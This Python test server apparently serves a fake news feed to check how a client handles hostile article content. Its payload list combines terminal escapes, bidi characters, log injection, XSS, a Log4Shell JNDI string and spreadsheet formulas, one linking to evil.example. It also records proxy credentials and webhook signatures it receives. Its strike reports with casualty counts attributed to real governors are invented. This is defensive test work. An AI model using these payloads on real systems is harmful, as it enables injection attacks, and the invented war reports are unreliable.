"""A news site for the test machine: a calm feed, and one whose articles try to break out of logs, tables and pages."""
import http.server, sys, time, urllib.parse

ACTS = ["\x1b[31m", "\x1b]0;owned\x07", "\x9b2J", "\u202e", "\u2066", "\u200b", "\u200f", "\u2028", "\x85", "\x7f", "\x08\x08", "\x00", "\ufeff", "\U000e0041",
        "\r\nPRIORITY=0\r\n", "\n\n-- Boot 1 --\n", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "%s%n%x", "${jndi:ldap://x/}"]
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\",\"x\")"]
HOSTILE = [start + act for act in ACTS for start in STARTS]


def entities(text):
    return "".join(f"&#{ord(c)};" if ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c in "<>\"&" else c for c in text)


def story(kind, n):
    day = 1 + n % 28
    if kind == "calm":
        where, who, whose = [("Belgorod", "Vyacheslav Gladkov", "drone strike"), ("Kherson", "Oleksandr Prokudin", "missile strike")][n % 2]
        return f"Strike on {where}", f"A {whose} on {where} on March {day} killed {20 + n} people, Governor {who} said."
    bad = entities(HOSTILE[n])
    return f"{bad} Shelling", f"{bad} Shelling of Kherson on March {day} killed {200 + n} people {bad}, Governor Oleksandr Prokudin {bad} said."


class Site(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        if self.headers["Proxy-Authorization"]:
            with open("/run/proxy-authorization", "w") as seen:
                seen.write(self.headers["Proxy-Authorization"])
        parts = urllib.parse.urlsplit(self.path).path.strip("/").split("/")
        if parts[0] == "feed":
            kind, count, first = parts[1], int(parts[2]), int((parts + ["0"])[3])
            items = "".join(f"<item><title>t</title><link>http://news.example.org/a/{kind}/{n}</link><guid>{kind}{n}</guid></item>" for n in range(first, first + count))
            self.answer("application/rss+xml", f'<?xml version="1.0"?><rss version="2.0"><channel><title>f</title>{items}</channel></rss>')
        elif parts[0] == "never":
            time.sleep(600)
        elif parts[0] == "a" and len(parts) == 3:
            title, text = story(parts[1], int(parts[2]))
            self.answer("text/html; charset=utf-8", f'<html lang="en"><head><title>{title}</title><meta property="article:published_time" content="2024-03-29T20:00:00Z">'
                        f"</head><body><article><h1>{title}</h1><p>{text}</p><p>The power was off for hours in story number {parts[2]}, and people waited for water.</p>"
                        "</article></body></html>")
        else:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()

    def do_POST(self):
        with open("/run/posted", "w") as seen:
            seen.write(f"{self.path} {self.headers['webhook-signature']}")
        self.send_response(503)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def answer(self, kind, text):
        body = text.encode("utf-8", "replace")
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), Site).serve_forever()
